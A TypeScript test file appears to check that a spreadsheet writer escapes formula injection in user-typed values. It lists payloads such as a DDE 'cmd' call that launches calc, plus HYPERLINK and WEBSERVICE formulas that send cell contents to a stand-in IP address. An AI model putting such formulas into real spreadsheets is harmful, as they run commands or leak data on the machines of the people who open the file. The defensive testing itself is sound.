import { withEscape, withoutEscape } from '@afterbell/domain/formula-escape'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { readBack, xmlOf } from './corpus/read-back.ts'
import { type SpreadsheetColumn, writeSpreadsheet } from './write.ts'

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const payloads = [
  "cmd|'/C calc'!A0",
  'HYPERLINK("http://198.51.100.7/?"&A1,"点")',
  'WEBSERVICE("http://198.51.100.7")',
  '1+1',
  "SUM(1+1)*cmd|' /C calc'!A0",
  '=1',
].flatMap((formula) => starts.map((start) => `${start}${formula}`))

describe('formulas in what people typed', () => {
  it('become none: 66 payloads, as header, text, choice, sheet name and property', async () => {
    expect(payloads.length).toBeGreaterThanOrEqual(60)
    const columns = payloads.map(
      (payload): SpreadsheetColumn => ({ header: payload, width: 9, kind: 'text', choices: [payload] }),
    )
    const bytes = await writeSpreadsheet({
      sheets: [{ name: payloads[0] ?? '', columns, rows: [payloads] }],
      properties: { title: payloads[0], creator: payloads[1] },
    })
    const xml = Object.entries(await xmlOf(bytes))
    expect(xml.filter(([, content]) => /<(\w+:)?f[\s/>]/.test(content))).toEqual([])
    const strings = xml.find(([name]) => name === 'xl/sharedStrings.xml')?.[1] ?? ''
    const written = [...strings.matchAll(/<t[^>]*>([^<]*)<\/t>/g)].map(([, content = '']) => content)
    expect(written).toHaveLength(payloads.length)
    expect(written.filter((content) => !content.startsWith("'"))).toEqual([])
    const [header, row] = await readBack(bytes)
    expect(header?.cells).toEqual(payloads.map((payload) => ({ kind: 'text', text: payload })))
    expect(row?.cells).toEqual(header?.cells)
  })

  it('would be found without the escape', () => {
    // The control: what the check above looks for is there when the escape is not.
    expect(payloads.filter((payload) => !payload.startsWith("'"))).toHaveLength(payloads.length)
    expect(payloads.filter((payload) => !withEscape(payload).startsWith("'"))).toEqual([])
  })

  it('leaves what is harmless as it is', () => {
    for (const harmless of ['王小明', '一（1）班', "'", "'王", ' =1', '1-2', ''])
      expect(withEscape(harmless)).toBe(harmless)
  })

  it('come back as they were, however many marks stand before them', () => {
    const marked = fc.string({ unit: fc.constantFrom("'", ...starts, 'a', '王'), maxLength: 6 })
    fc.assert(
      fc.property(marked, (value) => {
        expect(withoutEscape(withEscape(value))).toBe(value)
      }),
      { seed: 20_220_214, numRuns: 2_000 },
    )
  })
})
